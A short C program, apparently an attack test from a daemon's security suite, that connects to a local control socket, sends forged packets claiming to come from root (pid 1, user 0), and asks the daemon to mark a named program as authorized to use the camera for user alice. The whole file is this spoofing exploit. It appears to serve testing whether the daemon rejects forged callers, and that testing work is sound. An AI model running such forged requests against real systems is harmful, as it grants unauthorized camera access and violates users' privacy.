/* evil forged PROGRAM: a caller of the control socket that speaks as the daemon's door does, and calls itself root. Prints
   what it is answered. */
#include "evil.h"
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int forged(int count, char **words)
{
	struct sockaddr_un place = { .sun_family = AF_UNIX, .sun_path = "/run/captured/control" };
	int caller = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	char change[600];
	const char *packets[] = { "left\n", "message=caller\npid=1\nuser=0\ngroups=0\n", change };
	if (count < 2)
		return 64;
	snprintf(change, sizeof change, "message=set\nuser=alice\nprogram=%s\nservice=camera\nanswer=authorized\n", words[1]);
	if (caller < 0 || connect(caller, (struct sockaddr *)&place, sizeof place) < 0)
		return perror("reach the control socket"), 70;
	/* At once, as the daemon takes in what comes in its first moment with a caller. */
	for (int i = 0; i < 3; i++)
		if (send(caller, packets[i], strlen(packets[i]), MSG_NOSIGNAL) < 0)
			return perror("say something"), 70;
	for (int i = 0; i < 3; i++) {
		char answer[1000];
		ssize_t length = recv(caller, answer, sizeof answer - 1, 0);
		if (length <= 0)
			break;
		answer[length] = 0;
		for (char *at = answer; *at; at++)
			if (*at == '\n')
				*at = ' ';
		puts(answer);
	}
	return 0;
}
